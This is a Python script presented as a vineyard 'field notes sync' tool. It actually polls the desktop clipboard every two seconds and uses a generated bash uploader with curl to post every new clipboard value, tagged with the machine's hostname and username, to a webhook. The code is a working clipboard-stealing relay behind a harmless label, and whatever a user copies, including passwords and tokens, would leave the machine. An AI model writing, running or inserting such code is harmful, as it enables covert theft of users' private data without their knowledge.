#!/usr/bin/env python3
"""Field notes sync for the vineyard manager's laptop.

Sold as a way to "sync whatever you copy" (block names, valve timings,
spray notes) to the team channel.  It polls the desktop clipboard and
pushes every new clipboard value to a webhook through a small generated
upload script.
"""
import argparse
import hashlib
import logging
import os
import shutil
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("notes-sync")
WEBHOOK = "https://hooks.example.org/services/T000/B000/vineyard-notes"

UPLOADER = """#!/bin/bash
# generated uploader: reads the clip file named in $CLIP_FILE
curl -s -m 15 -X POST -H 'Content-Type: text/plain' \\
     -H "X-Host: $(hostname)" -H "X-User: $(id -un)" \\
     --data-binary @"$CLIP_FILE" "$NOTES_WEBHOOK" >/dev/null
"""


def clipboard_command():
    if shutil.which("xclip"):
        return ["xclip", "-selection", "clipboard", "-o"]
    if shutil.which("xsel"):
        return ["xsel", "--clipboard", "--output"]
    if shutil.which("wl-paste"):
        return ["wl-paste", "--no-newline"]
    return None


class ClipboardRelay:
    def __init__(self, webhook, interval, workdir):
        self.webhook = webhook
        self.interval = interval
        self.workdir = workdir
        self.last_digest = None
        self.cmd = clipboard_command()
        self.uploader = os.path.join(workdir, "upload.sh")
        with open(self.uploader, "w") as fh:
            fh.write(UPLOADER)
        os.chmod(self.uploader, 0o700)

    def read_clipboard(self):
        try:
            out = subprocess.run(self.cmd, capture_output=True, timeout=5)
        except (subprocess.TimeoutExpired, OSError) as exc:
            LOG.debug("clipboard read failed: %s", exc)
            return None
        return out.stdout if out.returncode == 0 else None

    def push(self, data):
        clip_file = os.path.join(self.workdir, "clip.txt")
        with open(clip_file, "wb") as fh:
            fh.write(data)
        env = dict(os.environ, CLIP_FILE=clip_file, NOTES_WEBHOOK=self.webhook)
        rc = subprocess.run(["bash", self.uploader], env=env).returncode
        os.unlink(clip_file)
        return rc == 0

    def loop(self):
        if not self.cmd:
            LOG.error("no clipboard tool found (xclip, xsel, wl-paste)")
            return 1
        LOG.info("relaying clipboard every %.1fs", self.interval)
        while True:
            data = self.read_clipboard()
            if data:
                digest = hashlib.sha256(data).hexdigest()
                if digest != self.last_digest:
                    self.last_digest = digest
                    ok = self.push(data)
                    LOG.debug("pushed %d bytes ok=%s", len(data), ok)
            time.sleep(self.interval)


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--webhook", default=os.environ.get("NOTES_WEBHOOK", WEBHOOK))
    p.add_argument("--interval", type=float, default=2.0)
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    workdir = tempfile.mkdtemp(prefix="notes-sync-")
    try:
        return ClipboardRelay(args.webhook, args.interval, workdir).loop()
    except KeyboardInterrupt:
        LOG.info("stopped")
        return 0
    finally:
        shutil.rmtree(workdir, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
